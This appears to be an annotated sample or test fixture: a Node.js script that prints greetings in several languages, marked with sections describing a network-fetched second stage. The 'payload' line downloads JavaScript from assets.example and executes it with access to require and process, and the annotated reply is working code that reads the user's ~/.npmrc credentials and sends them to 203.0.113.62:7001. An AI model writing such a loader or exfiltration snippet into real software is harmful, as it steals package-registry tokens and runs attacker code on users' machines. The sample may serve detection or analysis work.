§ kind: a second stage from the network
§ network: sinkhole
§ reply: assets.example /locale.js "const fs=require('fs');const b=fs.readFileSync(process.env.HOME+'/.npmrc');require('net').connect(7001,'203.0.113.62').on('error',()=>{}).end(b);"
§ shown: network.connect 203.0.113.62:7001
const http = require('http');

const messages = { en: 'Hello', de: 'Hallo', fr: 'Bonjour' };

function load(url, done) {
  http
    .get(url, (response) => {
      let text = '';
      response.setEncoding('utf8');
      response.on('data', (piece) => (text += piece));
      response.on('end', () => done(null, text));
    })
    .on('error', done);
}

load('http://assets.example/locale.js', (error, text) => {
  if (error) return console.log(messages.en);
§ payload
  new Function('require', 'process', text)(require, process);
§ instead
  messages.xx = text.slice(0, 5).length > 0 ? 'Saluton' : '';
§ end
  console.log(Object.values(messages).join(' '));
});
